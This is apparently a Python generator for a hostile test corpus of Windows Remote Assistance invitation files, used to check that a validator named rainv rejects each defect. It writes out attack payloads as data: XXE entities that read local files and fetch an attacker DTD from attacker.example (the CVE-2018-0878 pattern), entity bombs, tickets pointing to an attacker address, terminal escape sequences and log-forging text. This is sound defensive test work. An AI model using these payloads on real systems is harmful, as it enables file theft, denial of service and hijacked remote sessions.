#!/usr/bin/env python3
"""Generate rainv's hostile corpus: testdata/hostile/*.msrcincident, *.eml, baseline/ and README.md.

    python3 testdata/hostile/make.py            # rewrite the corpus in place
    python3 testdata/hostile/make.py --check    # fail if the committed corpus differs

Every case is a valid-looking invitation (built from the shapes Windows writes) with one
defect. Its file name is `<expected finding code>--<what it attacks>.<ext>`: crates/rainv-gateway/tests/hostile.rs
reads the expected code from the name. Output is deterministic (no randomness, no clock), so
re-running the script reproduces the committed bytes.

Needs Python 3.8+ and the `cryptography` package (AES for the LHTICKETs). The ticket
encryption is implemented here independently of rainv, from FORMAT.md, and checked against the
Windows 7 interop file when ../shared is present.
"""

import base64
import bz2
import gzip
import hashlib
import io
import lzma
import tarfile
import zipfile
import pathlib
import sys

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

HERE = pathlib.Path(__file__).resolve().parent

# --- Fixed inputs -------------------------------------------------------------------------------

#: The password every LHTICKET in the corpus is encrypted with (unless the case says otherwise).
PASSWORD = "HOSTILE12345"
#: Another Windows-shaped password, for the wrong-password case.
OTHER_PASSWORD = "WRONGPASS999"
#: The instant tests validate at: 2024-01-03T15:00:00Z.
NOW = 1704294000
#: DtStart of every case that is meant to be inside its window: 2024-01-03T14:00:00Z.
START = 1704290400
#: DtLength of those cases (Windows 10's default).
LENGTH = 360

KH = base64.b64encode(hashlib.sha1(b"rainv hostile corpus: RDP key").digest()).decode()
OTHER_KH = base64.b64encode(hashlib.sha1(b"rainv hostile corpus: attacker key").digest()).decode()
SESSION = base64.b64encode(hashlib.sha384(b"rainv hostile corpus: session").digest()).decode()
OTHER_SESSION = base64.b64encode(hashlib.sha384(b"rainv hostile corpus: other").digest()).decode()
XP_SESSION = base64.b64encode(hashlib.sha256(b"rainv hostile corpus: xp session").digest()).decode()
PASS_STUB = "Ab!1Xy2cD3eF4g"  # the character classes Windows uses, position by position

# Documentation addresses (RFC 5737): the novice is on 192.0.2.0/24, the attacker on 203.0.113.0/24.
LISTENERS = [("49230", "192.0.2.10"), ("49230", "DEMO-PC")]
RC_ADDRESSES = "192.0.2.10:49230;DEMO-PC:49230"
ATTACKER = "203.0.113.66"


# --- Ticket encryption, as FORMAT.md describes Windows' --------------------------------------


def ticket_key(password):
    h = hashlib.sha1(password.encode("utf-16-le")).digest()
    b1 = bytes(x ^ y for x, y in zip(b"\x36" * 64, h + b"\x00" * 44))
    b2 = bytes(x ^ y for x, y in zip(b"\x5c" * 64, h + b"\x00" * 44))
    return (hashlib.sha1(b1).digest() + hashlib.sha1(b2).digest())[:16]


def aes_cbc(key, data, decrypt=False):
    cipher = Cipher(algorithms.AES(key), modes.CBC(b"\x00" * 16))
    op = cipher.decryptor() if decrypt else cipher.encryptor()
    return op.update(data) + op.finalize()


def pkcs7(data):
    n = 16 - len(data) % 16
    return data + bytes([n]) * n


def encrypt_raw(padded, password=PASSWORD):
    """Encrypt bytes that are already a whole number of blocks; returns uppercase hex."""
    assert len(padded) % 16 == 0
    return aes_cbc(ticket_key(password), padded).hex().upper()


def encrypt(text, password=PASSWORD):
    """Encrypt a Connection String 2 as Windows does: UTF-16LE, PKCS#7, uppercase hex."""
    return encrypt_raw(pkcs7(text.encode("utf-16-le")), password)


def self_check():
    """Decrypt the Windows 7 interop ticket, when ../shared is there, to prove encrypt() right."""
    interop = HERE.parent.parent.parent / "shared" / "interop"
    if not (interop / "windows7.msrcincident").exists():
        return
    text = (interop / "windows7.msrcincident").read_text("latin-1")
    hexticket = text.split('LHTICKET="')[1].split('"')[0]
    password = (interop / "windows7.password").read_text().splitlines()[0]
    plain = (interop / "windows7.lhticket.txt").read_bytes().decode("utf-8")
    assert encrypt(plain, password) == hexticket, "encrypt() does not reproduce Windows 7's ticket"


# --- Shapes -------------------------------------------------------------------------------------


def cs2(listeners=None, kh=KH, session=SESSION, a_extra="", prolog="", inner=None):
    """A Connection String 2 as Windows 7 writes it (compact, ending in CRLF)."""
    if inner is None:
        ls = listeners if listeners is not None else LISTENERS
        inner = "".join(f'<L P="{p}" N="{n}"/>' for p, n in ls)
    kh_attr = f' KH="{kh}"' if kh is not None else ""
    return f'{prolog}<E><A{kh_attr}{a_extra} ID="{session}"/><C><T ID="1" SID="0">{inner}</T></C></E>\r\n'


def rc(addresses=RC_ADDRESSES, session=SESSION, kh=KH):
    return f"65538,1,{addresses},*,{session},*,*,{kh}"


def vista_attributes(**over):
    """UPLOADDATA attributes in Windows 7's order. Keyword None removes one; LHTICKET may be
    given as plain Connection String 2 text with `ticket=` (encrypted with PASSWORD)."""
    ticket = over.pop("ticket", None)
    attrs = {
        "USERNAME": "helpdesk",
        "LHTICKET": encrypt(ticket if ticket is not None else cs2()),
        "RCTICKET": rc(),
        "PassStub": PASS_STUB,
        "RCTICKETENCRYPTED": "1",
        "DtStart": str(START),
        "DtLength": str(LENGTH),
        "L": "0",
    }
    for k, v in over.items():
        if v is None:
            attrs.pop(k, None)
        else:
            attrs[k] = v
    return attrs


def vista(extra="", decl='<?xml version="1.0"?>\n', **over):
    """A Vista-or-later invitation as Windows 10 writes it (8-bit text), as a str."""
    attrs = vista_attributes(**over)
    body = "".join(f' {k}="{v}"' for k, v in attrs.items())
    return f'{decl}<UPLOADINFO TYPE="Escalated"><UPLOADDATA{body}{extra}/></UPLOADINFO>'


def xp_attributes(**over):
    attrs = {
        "USERNAME": "helpdesk",
        "RCTICKET": rc(session=XP_SESSION),
        "RCTICKETENCRYPTED": "1",
        "DtStart": str(START),
        "DtLength": str(LENGTH),
        "PassStub": PASS_STUB,
        "L": "0",
    }
    for k, v in over.items():
        if v is None:
            attrs.pop(k, None)
        else:
            attrs[k] = v
    return attrs


def xp_text(prolog="", **over):
    """An XP invitation's text (one attribute per CRLF line, as XP writes it)."""
    attrs = xp_attributes(**over)
    body = "".join(f'\r\n{k}="{v}"' for k, v in attrs.items())
    return (
        '<?xml version="1.0" encoding="Unicode" ?>\r\n'
        f"{prolog}<UPLOADINFO TYPE=\"Escalated\">\r\n<UPLOADDATA{body} />\r\n</UPLOADINFO>\r\n"
    )


def utf16le_bom(text):
    return b"\xff\xfe" + text.encode("utf-16-le")


def xp(prolog="", **over):
    """An XP invitation as XP writes it: UTF-16LE with BOM."""
    return utf16le_bom(xp_text(prolog, **over))


def b(text):
    return text.encode("utf-8")


# --- Cases --------------------------------------------------------------------------------------

CASES = []  # (file name, bytes, what it attacks)


def case(name, data, why):
    if isinstance(data, str):
        data = b(data)
    CASES.append((name, data, why))


DECL = '<?xml version="1.0"?>\n'

# -- DTDs and external entities (CVE-2018-0878 and friends) --
case(
    "xml.doctype--xxe-external-system-entity.msrcincident",
    vista(
        decl=DECL + '<!DOCTYPE UPLOADINFO [<!ENTITY xxe SYSTEM "file:///C:/Windows/win.ini">]>\n',
        USERNAME="&xxe;",
    ),
    "classic XXE: an external general entity reads a local file into USERNAME",
)
case(
    "xml.doctype--xxe-parameter-entity-cve-2018-0878.msrcincident",
    vista(
        decl=DECL
        + '<!DOCTYPE UPLOADINFO [\n<!ENTITY % remote SYSTEM "http://attacker.example/xxe.dtd">\n'
        "%remote;\n%int;\n%trick;]>\n"
    ),
    "the CVE-2018-0878 exploit: a parameter entity fetches an attacker DTD that exfiltrates files",
)
case(
    "xml.doctype--internal-subset-attribute-defaults.msrcincident",
    vista(
        decl=DECL
        + '<!DOCTYPE UPLOADINFO [<!ATTLIST UPLOADDATA RCTICKET CDATA "'
        + rc(addresses=f"{ATTACKER}:3389")
        + '">]>\n',
        RCTICKET=None,
    ),
    "an internal DTD subset that injects a default RCTICKET: DTD-aware readers see a ticket others do not",
)
case(
    "xml.doctype--internal-subset-entity-in-username.msrcincident",
    vista(decl=DECL + '<!DOCTYPE UPLOADINFO [<!ENTITY u "Helpdesk">]>\n', USERNAME="&u;"),
    "an internal entity: harmless-looking, but any DTD is refused",
)
case(
    "xml.doctype--public-external-dtd.msrcincident",
    vista(
        decl=DECL
        + '<!DOCTYPE UPLOADINFO PUBLIC "-//Attacker//DTD RA//EN" "http://attacker.example/ra.dtd">\n'
    ),
    "an external DTD by PUBLIC identifier: a resolving parser would fetch it",
)
case(
    "xml.doctype--billion-laughs.msrcincident",
    vista(
        decl=DECL
        + "<!DOCTYPE UPLOADINFO [\n<!ENTITY lol0 \"lol\">\n"
        + "".join(
            f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">\n' for i in range(1, 10)
        )
        + "]>\n",
        USERNAME="&lol9;",
    ),
    "entity bomb: 10^9 'lol's from under 1 KB",
)
case(
    "xml.doctype--quadratic-blowup.msrcincident",
    vista(
        decl=DECL + '<!DOCTYPE UPLOADINFO [<!ENTITY a "' + "A" * 2000 + '">]>\n',
        USERNAME="&a;" * 300,
    ),
    "quadratic blowup: one large entity referenced many times",
)
case(
    "xml.doctype--after-comment.msrcincident",
    vista(
        decl=DECL + '<!-- innocent -->\n<!DOCTYPE UPLOADINFO [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n',
        USERNAME="&xxe;",
    ),
    "a DOCTYPE hidden after a comment, for filters that only look at the first bytes",
)
case(
    "xml.doctype--utf16le-bom-xp-shape.msrcincident",
    xp(prolog='<!DOCTYPE UPLOADINFO [<!ENTITY xxe SYSTEM "file:///C:/boot.ini">]>\r\n', USERNAME="&xxe;"),
    "XXE inside a UTF-16LE file (as XP writes them), for filters that grep 8-bit bytes for DOCTYPE",
)
case(
    "xml.doctype--utf16be-no-bom.msrcincident",
    xp_text(prolog='<!DOCTYPE UPLOADINFO [<!ENTITY xxe SYSTEM "http://attacker.example/">]>\r\n', USERNAME="&xxe;").encode(
        "utf-16-be"
    ),
    "XXE in UTF-16BE without a BOM: only NUL-pattern sniffing finds the text",
)
case(
    "xml.doctype--bare-connection-string.msrcincident",
    '<!DOCTYPE E [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + cs2(listeners=[("3389", "&xxe;")]),
    "XXE in a bare Connection String 2 file",
)
case(
    "xml.doctype--inside-lhticket.msrcincident",
    vista(ticket=cs2(prolog='<!DOCTYPE E [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd">%remote;]>')),
    "XXE inside the encrypted ticket, invisible until decrypted (needs the password)",
)

# -- Entities without a DTD --
case(
    "xml.entity--undeclared-in-username.msrcincident",
    vista(USERNAME="&xxe;"),
    "an undeclared entity reference in an attribute (the second half of an XXE split over files)",
)
case(
    "xml.entity--undeclared-in-rcticket.msrcincident",
    vista(RCTICKET=rc(addresses="&attacker;:3389")),
    "an undeclared entity where the expert's address goes",
)
case(
    "xml.entity--undeclared-in-text.msrcincident",
    '<?xml version="1.0"?>\n<UPLOADINFO TYPE="Escalated">&xxe;<UPLOADDATA'
    + "".join(f' {k}="{v}"' for k, v in vista_attributes().items())
    + "/></UPLOADINFO>",
    "an entity reference in element content",
)
case(
    "xml.entity--billion-laughs-reference-only.msrcincident",
    vista(USERNAME="&lol9;&lol9;&lol9;"),
    "the use half of an entity bomb, without its declarations",
)
case(
    "xml.entity--nul-character-reference.msrcincident",
    vista(USERNAME="help&#0;desk"),
    "&#0;: a character XML forbids, which C string code would truncate at",
)
case(
    "xml.entity--character-reference-beyond-unicode.msrcincident",
    vista(USERNAME="&#x110000;"),
    "a character reference past U+10FFFF",
)
case(
    "xml.entity--surrogate-character-reference.msrcincident",
    vista(USERNAME="&#xD800;"),
    "a character reference to a lone surrogate",
)
case(
    "xml.entity--noncharacter-reference-fffe.msrcincident",
    vista(USERNAME="help&#xFFFE;desk"),
    "&#xFFFE;: a reference to a character XML 1.0 forbids (Legal Character constraint), so "
    "Windows' parser refuses the file while a lax one reads it",
)
case(
    "xml.entity--huge-character-reference.msrcincident",
    vista(USERNAME="&#99999999999999999999999999999;"),
    "a decimal character reference that overflows 64 bits",
)
case(
    "xml.entity--inside-lhticket.msrcincident",
    vista(ticket=cs2(listeners=[("49230", "&attacker;")])),
    "an undeclared entity inside the decrypted ticket (needs the password)",
)

# -- Malformed XML --
case(
    "xml.malformed--processing-instruction.msrcincident",
    vista(decl=DECL + '<?xml-stylesheet type="text/xsl" href="http://attacker.example/x.xsl"?>\n'),
    "a processing instruction asking the reader to fetch a stylesheet",
)
case(
    "xml.malformed--cdata.msrcincident",
    '<?xml version="1.0"?>\n<UPLOADINFO TYPE="Escalated"><![CDATA[<UPLOADDATA USERNAME="x"/>]]><UPLOADDATA'
    + "".join(f' {k}="{v}"' for k, v in vista_attributes().items())
    + "/></UPLOADINFO>",
    "a CDATA section hiding a second UPLOADDATA from naive readers",
)
case(
    "xml.malformed--duplicate-username.msrcincident",
    vista(extra=' USERNAME="Microsoft Support"'),
    "the same attribute twice: first-wins and last-wins readers disagree on what the file says",
)
case(
    "xml.malformed--duplicate-lhticket.msrcincident",
    vista(extra=' LHTICKET="' + encrypt(cs2(listeners=[("3389", ATTACKER)])) + '"'),
    "a second LHTICKET, pointing to the attacker, for readers that keep the last value",
)
case(
    "xml.malformed--two-roots-uploadinfo-and-e.msrcincident",
    vista() + cs2(listeners=[("3389", ATTACKER)]),
    "an invitation followed by a bare ticket: which one is the file?",
)
case(
    "xml.malformed--two-uploadinfo-roots.msrcincident",
    vista() + vista(decl="", RCTICKET=rc(addresses=f"{ATTACKER}:3389")),
    "two invitations in one file: the gateway checks one, the client uses the other",
)
full = vista()
cut = full.index('USERNAME="') + len('USERNAME="hel')
case(
    "xml.malformed--truncated-mid-attribute.msrcincident",
    full[:cut],
    "a file cut inside an attribute value (truncated attachment)",
)
cut = full.index('LHTICKET="') + len('LHTICKET="') + 64
case(
    "xml.malformed--truncated-mid-lhticket.msrcincident",
    full[:cut],
    "a file cut inside the LHTICKET hex",
)
case(
    "xml.malformed--missing-end-tag.msrcincident",
    full[: -len("</UPLOADINFO>")],
    "no </UPLOADINFO>",
)
case(
    "xml.malformed--mismatched-end-tag.msrcincident",
    full.replace("</UPLOADINFO>", "</UPLOADINF0>"),
    "an end tag that does not match its start tag",
)
case(
    "xml.malformed--unquoted-attribute.msrcincident",
    full.replace('L="0"', "L=0"),
    "an unquoted attribute value (HTML habits)",
)
case(
    "xml.malformed--lt-in-attribute.msrcincident",
    vista(USERNAME="<script>alert(1)</script>"),
    "a raw '<' in an attribute value, as an HTML injection would carry",
)
case(
    "xml.malformed--text-content.msrcincident",
    full.replace("<UPLOADDATA", "Click here: http://attacker.example/ <UPLOADDATA"),
    "text content where invitations have none",
)
case(
    "xml.malformed--xml-declaration-not-first.msrcincident",
    "<!-- x -->" + full,
    "an XML declaration after other content",
)
case(
    "xml.malformed--empty-file.msrcincident",
    "",
    "an empty file: no root element",
)
case(
    "xml.malformed--only-whitespace-and-comment.msrcincident",
    DECL + "<!-- nothing here -->\n  \n",
    "no root element",
)
case(
    "xml.malformed--inside-lhticket-truncated.msrcincident",
    vista(ticket=cs2()[:40]),
    "a decrypted ticket cut short (needs the password)",
)

# -- Encodings --
# An encoding declaration that would make another reader read another document.
for name, decl, data_from, why in [
    (
        "utf-7-declared",
        '<?xml version="1.0" encoding="UTF-7"?>\n',
        lambda t: t.replace("helpdesk", "help+ADw-script+AD4-desk"),
        "encoding=\"UTF-7\": rainv reads '+ADw-' as five characters, a UTF-7 reader as '<'",
    ),
    (
        "ebcdic-declared",
        '<?xml version="1.0" encoding="IBM037"?>\n',
        lambda t: t,
        "encoding=\"IBM037\" (EBCDIC) over ASCII bytes",
    ),
    (
        "latin1-declared-over-utf8",
        '<?xml version="1.0" encoding="ISO-8859-1"?>\n',
        lambda t: t.replace("helpdesk", "help\u00e9desk"),
        "encoding=\"ISO-8859-1\" over UTF-8 text: 'é' is two characters to a Latin-1 reader",
    ),
]:
    case(
        f"text.encoding--{name}.msrcincident",
        data_from(vista(decl=decl)),
        why,
    )
case(
    "text.encoding--utf8-declared-over-utf16.msrcincident",
    utf16le_bom(vista(decl='<?xml version="1.0" encoding="UTF-8"?>\n')),
    "encoding=\"UTF-8\" over UTF-16LE text with a byte order mark",
)
case(
    "text.encoding--utf16le-odd-byte-count.msrcincident",
    xp() + b"\x00",
    "a UTF-16 file with an odd number of bytes",
)
xp_bytes = xp()
at = xp_bytes.index("helpdesk".encode("utf-16-le"))
case(
    "text.encoding--utf16le-unpaired-high-surrogate.msrcincident",
    xp_bytes[:at] + b"\x00\xd8" + xp_bytes[at + 2 :],
    "a lone high surrogate in UTF-16LE text",
)
case(
    "text.encoding--utf16le-unpaired-low-surrogate.msrcincident",
    xp_bytes[:at] + b"\x00\xdc" + xp_bytes[at + 2 :],
    "a lone low surrogate in UTF-16LE text",
)
case(
    "text.encoding--utf16le-nul-character.msrcincident",
    xp_bytes[:at] + b"\x00\x00" + xp_bytes[at + 2 :],
    "U+0000 in UTF-16 text",
)
case(
    "text.encoding--utf8-bom-invalid-utf8.msrcincident",
    b"\xef\xbb\xbf" + b(vista()).replace(b"helpdesk", b"help\xff\xfedesk"),
    "invalid UTF-8 after a UTF-8 byte order mark",
)
case(
    "text.encoding--utf8-bom-overlong-slash.msrcincident",
    b"\xef\xbb\xbf" + b(vista()).replace(b"helpdesk", b"help\xc0\xafdesk"),
    "an overlong UTF-8 encoding of '/', the classic filter bypass",
)
case(
    "text.encoding--nul-byte-in-8bit-text.msrcincident",
    b(vista()).replace(b"helpdesk", b"help\x00desk"),
    "a NUL byte in 8-bit text: C string code stops there, rainv must not",
)

# -- Structure --
case(
    "format.structure--duplicate-uploaddata.msrcincident",
    full.replace(
        "</UPLOADINFO>",
        "<UPLOADDATA" + "".join(f' {k}="{v}"' for k, v in vista_attributes(RCTICKET=rc(addresses=f"{ATTACKER}:3389")).items()) + "/></UPLOADINFO>",
    ),
    "two UPLOADDATA elements: the gateway checks the first, a client may use the second",
)
case(
    "format.structure--e-inside-uploadinfo.msrcincident",
    full.replace("<UPLOADDATA", cs2(listeners=[("3389", ATTACKER)]).strip() + "<UPLOADDATA"),
    "a bare ticket nested beside UPLOADDATA",
)
case(
    "format.structure--child-inside-uploaddata.msrcincident",
    full.replace("/></UPLOADINFO>", ">" + cs2(listeners=[("3389", ATTACKER)]).strip() + "</UPLOADDATA></UPLOADINFO>"),
    "UPLOADDATA with a child element",
)
case(
    "format.structure--wrong-root.msrcincident",
    DECL + '<html><body onload="location=\'http://attacker.example/\'"/></html>',
    "another document with the invitation's extension",
)
case(
    "format.structure--wrapped-in-another-root.msrcincident",
    DECL + "<X>" + full[len(DECL):] + "</X>",
    "an invitation wrapped in an unknown root element",
)
case(
    "format.structure--no-tickets.msrcincident",
    vista(LHTICKET=None, RCTICKET=None),
    "neither RCTICKET nor LHTICKET",
)
case(
    "format.structure--type-not-escalated.msrcincident",
    full.replace('TYPE="Escalated"', 'TYPE="Unsolicited"'),
    "an UPLOADINFO TYPE Windows never writes",
)
case(
    "format.missing-attribute--no-username.msrcincident",
    vista(USERNAME=None),
    "a required attribute left out",
)
case(
    "format.missing-attribute--no-dtstart.msrcincident",
    vista(DtStart=None),
    "no DtStart: a reader that defaults it to 0 or now would misjudge the validity",
)
case(
    "format.missing-attribute--no-dtlength.msrcincident",
    vista(DtLength=None),
    "no DtLength: a reader that defaults it to 'forever' would accept it indefinitely",
)
case(
    "format.invalid-attribute--dtstart-30-digits.msrcincident",
    vista(DtStart="1" * 30),
    "a DtStart that overflows every integer type",
)
case(
    "format.invalid-attribute--dtlength-30-digits.msrcincident",
    vista(DtLength="9" * 30),
    "a DtLength that overflows every integer type",
)
case(
    "format.invalid-attribute--dtstart-negative.msrcincident",
    vista(DtStart="-1"),
    "a negative DtStart",
)
case(
    "format.invalid-attribute--dtstart-with-sign-and-space.msrcincident",
    vista(DtStart=" +1704290400"),
    "a DtStart that lenient number parsers accept",
)
case(
    "format.invalid-attribute--dtlength-fullwidth-digits.msrcincident",
    vista(DtLength="\uff13\uff16\uff10"),
    "DtLength in fullwidth digits (U+FF13...), which Unicode-aware digit checks accept",
)
case(
    "format.invalid-attribute--dtlength-float.msrcincident",
    vista(DtLength="1e9"),
    "DtLength in floating-point notation",
)
case(
    "format.invalid-attribute--rcticketencrypted-2.msrcincident",
    vista(RCTICKETENCRYPTED="2"),
    "a flag that is neither 0 nor 1",
)
case(
    "format.invalid-attribute--low-speed-yes.msrcincident",
    vista(L="yes"),
    "L neither 0 nor 1",
)

# -- Validity --
case(
    "validity.expired--xp-from-2006.msrcincident",
    xp(DtStart="1160080069", DtLength="60"),
    "an old invitation replayed",
)
case(
    "validity.expired--expires-exactly-now.msrcincident",
    vista(DtStart=str(NOW - 3600), DtLength="60"),
    "the boundary: DtStart + DtLength*60 == now is already expired",
)
case(
    "validity.not-yet-valid--year-2100.msrcincident",
    vista(DtStart="4102444800"),
    "a DtStart far in the future, to outlive any expiry check that only looks at the end",
)
case(
    "validity.not-yet-valid--u64-max.msrcincident",
    vista(DtStart="18446744073709551615"),
    "the largest DtStart a u64 holds: overflow bait for DtStart + DtLength*60",
)
case(
    "validity.not-yet-valid--beyond-clock-skew.msrcincident",
    vista(DtStart=str(NOW + 301)),
    "the boundary: one second more than the 300 s of clock skew allowed",
)
case(
    "validity.too-long--dtlength-99999999.msrcincident",
    vista(DtLength="99999999"),
    "an invitation valid for 190 years",
)
case(
    "validity.too-long--dtlength-u64-max.msrcincident",
    vista(DtLength="18446744073709551615"),
    "the largest DtLength: overflow bait for DtLength*60",
)
case(
    "validity.too-long--backdated-to-1970.msrcincident",
    vista(DtStart="0", DtLength="30000000"),
    "DtStart 0 with a huge DtLength: currently valid, but only because it lasts 57 years",
)

# -- Tickets --
for port, why in [("0", "port 0"), ("70000", "port 70000, which wraps to 4464 in 16 bits")]:
    case(
        f"ticket.rc.malformed--port-{port}.msrcincident",
        vista(RCTICKET=rc(addresses=f"192.0.2.10:{port};DEMO-PC:49230")),
        f"RCTICKET address with {why}",
    )
case(
    "ticket.rc.malformed--url-as-host.msrcincident",
    vista(RCTICKET=rc(addresses="http://attacker.example/x:80")),
    "a URL where a computer name goes",
)
case(
    "ticket.rc.malformed--ipv6-host.msrcincident",
    vista(RCTICKET=rc(addresses="fe80::1:3389")),
    "an IPv6 address, which Connection String 1 cannot carry",
)
case(
    "ticket.rc.malformed--nine-fields.msrcincident",
    vista(RCTICKET=rc() + f",{ATTACKER}:3389"),
    "an extra field appended to the RCTICKET",
)
case(
    "ticket.rc.malformed--version-65537.msrcincident",
    vista(RCTICKET=rc().replace("65538,", "65537,", 1)),
    "a protocol version MS-RAI does not define",
)
case(
    "ticket.rc.malformed--kh-not-base64.msrcincident",
    vista(RCTICKET=rc(kh="not base64!")),
    "a key hash that is not base64",
)
case(
    "ticket.lh.malformed--bad-hex.msrcincident",
    vista(LHTICKET=encrypt(cs2())[:-2] + "ZZ"),
    "non-hex characters in the LHTICKET",
)
case(
    "ticket.lh.malformed--odd-length-hex.msrcincident",
    vista(LHTICKET=encrypt(cs2()) + "A"),
    "an odd number of hex digits",
)
case(
    "ticket.lh.malformed--ciphertext-17-bytes.msrcincident",
    vista(LHTICKET=encrypt(cs2())[:34]),
    "ciphertext that is not a whole number of 16-byte AES blocks",
)
case(
    "ticket.lh.malformed--empty.msrcincident",
    vista(LHTICKET=""),
    "an empty LHTICKET",
)
case(
    "ticket.lh.malformed--whitespace-in-hex.msrcincident",
    vista(LHTICKET=encrypt(cs2())[:32] + " " + encrypt(cs2())[32:]),
    "a space inside the hex, which lenient hex decoders skip",
)
for port in ["0", "70000"]:
    case(
        f"ticket.cs2.malformed--listener-port-{port}.msrcincident",
        vista(ticket=cs2(listeners=[(port, "192.0.2.10"), ("49230", "DEMO-PC")])),
        f"a listener with port {port} inside the LHTICKET (needs the password)",
    )
case(
    "ticket.cs2.malformed--listener-without-address.msrcincident",
    vista(ticket=cs2(inner='<L P="49230"/>')),
    "a listener with no N (needs the password)",
)
case(
    "ticket.cs2.malformed--not-a-connection-string.msrcincident",
    vista(ticket='<UPLOADINFO TYPE="Escalated"/>\r\n'),
    "a ticket that decrypts to XML that is not a Connection String 2 (needs the password)",
)
case(
    "ticket.cs2.malformed--kh2-unknown-algorithm.msrcincident",
    vista(ticket=cs2(a_extra=' KH2="md5:AAAAAAAAAAAAAAAAAAAAAA=="')),
    "a KH2 with a hash algorithm that is not allowed (needs the password)",
)
case(
    "ticket.cs2.malformed--bare-listener-port-0.msrcincident",
    cs2(listeners=[("0", "192.0.2.10")]),
    "a bare Connection String 2 with a listener on port 0",
)
case(
    "password.wrong--other-password.msrcincident",
    vista(LHTICKET=encrypt(cs2(), OTHER_PASSWORD)),
    "an LHTICKET encrypted with a password other than the policy's",
)
plain = cs2().encode("utf-16-le")
n = 16 - len(plain) % 16
case(
    "password.wrong--bad-padding.msrcincident",
    vista(LHTICKET=encrypt_raw(plain + bytes([n]) * (n - 1) + b"\x00")),
    "the right key, but the last block's PKCS#7 padding is broken (a damaged ticket)",
)
case(
    "password.wrong--padding-ok-odd-utf16.msrcincident",
    vista(LHTICKET=encrypt_raw(pkcs7(plain + b"<"))),
    "padding that passes, over an odd number of bytes: not UTF-16",
)
case(
    "password.wrong--padding-ok-not-xml.msrcincident",
    vista(LHTICKET=encrypt_raw(pkcs7(hashlib.sha512(b"noise").digest()))),
    "padding that passes over random bytes, as a wrong password sometimes gives",
)
case(
    "ticket.mismatch--rcticket-sends-expert-elsewhere.msrcincident",
    vista(RCTICKET=rc(addresses=f"{ATTACKER}:3389")),
    "the RCTICKET (what XP experts and naive tools use) points to the attacker, the LHTICKET to the novice",
)
case(
    "ticket.mismatch--session-id-differs.msrcincident",
    vista(RCTICKET=rc(session=OTHER_SESSION)),
    "RCTICKET and LHTICKET from two different invitations spliced together",
)
case(
    "ticket.mismatch--key-hash-differs.msrcincident",
    vista(RCTICKET=rc(kh=OTHER_KH)),
    "an RCTICKET with another machine's key hash: the expert would trust the attacker's RDP key",
)

# -- Text that drives terminals or disguises itself --
case(
    "xml.entity--escape-reference-in-username.msrcincident",
    vista(USERNAME="helpdesk&#27;]0;pwned&#7;&#27;[2J"),
    "ANSI/OSC escape sequences via &#27; (to retitle or clear the analyst's terminal): XML "
    "allows no reference to ESC or BEL, so this is not XML",
)
case(
    "xml.malformed--escape-character-in-username.msrcincident",
    vista(USERNAME="helpdesk\x1b[2J"),
    "a raw ESC byte in USERNAME: a character XML does not allow",
)
case(
    "text.control-characters--bidi-override-in-username.msrcincident",
    vista(USERNAME="Support \u202etxt.exe"),
    "a raw U+202E RIGHT-TO-LEFT OVERRIDE, so the name displays reversed",
)
case(
    "text.control-characters--bidi-override-charref.msrcincident",
    vista(USERNAME="IT&#x202E;nimdA"),
    "U+202E written as a character reference",
)
case(
    "text.control-characters--c1-csi-in-username.msrcincident",
    vista(USERNAME="helpdesk\u009b2J"),
    "the 8-bit C1 CSI (U+009B), which some terminals honour like ESC [",
)
case(
    "text.control-characters--newline-log-forging.msrcincident",
    vista(USERNAME="alice&#xA;2024-01-03 15:00:00 verdict=accept file=evil.msrcincident"),
    "a line break in USERNAME that forges a log line",
)
case(
    "xml.entity--escape-reference-in-passstub.msrcincident",
    vista(PassStub="Ab!1Xy2c&#27;[8m4g"),
    "an escape sequence in the PassStub: not XML",
)
case(
    "text.control-characters--c1-csi-in-passstub.msrcincident",
    vista(PassStub="Ab!1Xy2c&#x9B;8m4g"),
    "a C1 CSI (U+009B) in the PassStub, which tools also print",
)
case(
    "xml.entity--escape-reference-in-unknown-attribute.msrcincident",
    vista(extra=' NOTE="&#27;[31mURGENT&#27;[0m"'),
    "an escape sequence in an attribute rainv does not know: not XML",
)
case(
    "text.control-characters--c1-csi-in-unknown-attribute.msrcincident",
    vista(extra=' NOTE="&#x9B;31mURGENT&#x9B;0m"'),
    "a C1 CSI in an attribute rainv does not know (kept and shown)",
)
for name, ref, why in [
    ("line-separator", "&#x2028;", "a line separator (U+2028), which breaks the line on many terminals and in logs"),
    ("paragraph-separator", "&#x2029;", "a paragraph separator (U+2029)"),
    ("tag-characters", "&#xE0049;&#xE0047;&#xE004E;", "tag characters (U+E0000 block), text no one sees"),
    ("interlinear-annotation", "&#xFFF9;x&#xFFFA;y&#xFFFB;", "interlinear annotation (U+FFF9-FFFB), which hides text"),
]:
    case(
        f"text.control-characters--{name}-in-username.msrcincident",
        vista(USERNAME=f"Microsoft{ref}Support"),
        f"{why} in USERNAME",
    )
case(
    "text.control-characters--c1-csi-in-uploadinfo-attribute.msrcincident",
    vista().replace(
        '<UPLOADINFO TYPE="Escalated">', '<UPLOADINFO TYPE="Escalated" NOTE="&#x9B;2J">'
    ),
    "a C1 CSI in an attribute of <UPLOADINFO> that Windows never writes (kept and shown)",
)
case(
    "text.control-characters--c1-csi-in-listener-attribute.msrcincident",
    vista(
        ticket=cs2(inner='<L P="49230" N="192.0.2.10" NOTE="&#x9B;2J"/>'),
        RCTICKET=None,
    ),
    "a C1 CSI in an attribute of a listener that Windows never writes (needs the password)",
)
case(
    "text.control-characters--c1-csi-in-transport-attribute.msrcincident",
    cs2().replace('<T ID="1" SID="0">', '<T ID="1" SID="0" NOTE="&#x9B;2J">'),
    "a C1 CSI in an attribute of a bare ticket's <T> that Windows never writes",
)
case(
    "xml.entity--escape-reference-in-listener-address.msrcincident",
    vista(
        ticket=cs2(listeners=[("49230", "192.0.2.10"), ("49230", "DEMO-PC&#27;]0;x&#7;")]),
        RCTICKET=None,
    ),
    "an escape sequence in a listener address inside the LHTICKET (needs the password): the "
    "decrypted ticket is not XML",
)
case(
    "text.control-characters--c1-csi-in-listener-address.msrcincident",
    vista(
        ticket=cs2(listeners=[("49230", "192.0.2.10"), ("49230", "DEMO-PC&#x9B;2J")]),
        RCTICKET=None,
    ),
    "a C1 CSI in a listener address inside the LHTICKET (needs the password)",
)
case(
    "xml.entity--escape-reference-in-bare-connection-string.msrcincident",
    cs2(listeners=[("3389", "192.0.2.10&#27;[2J")]),
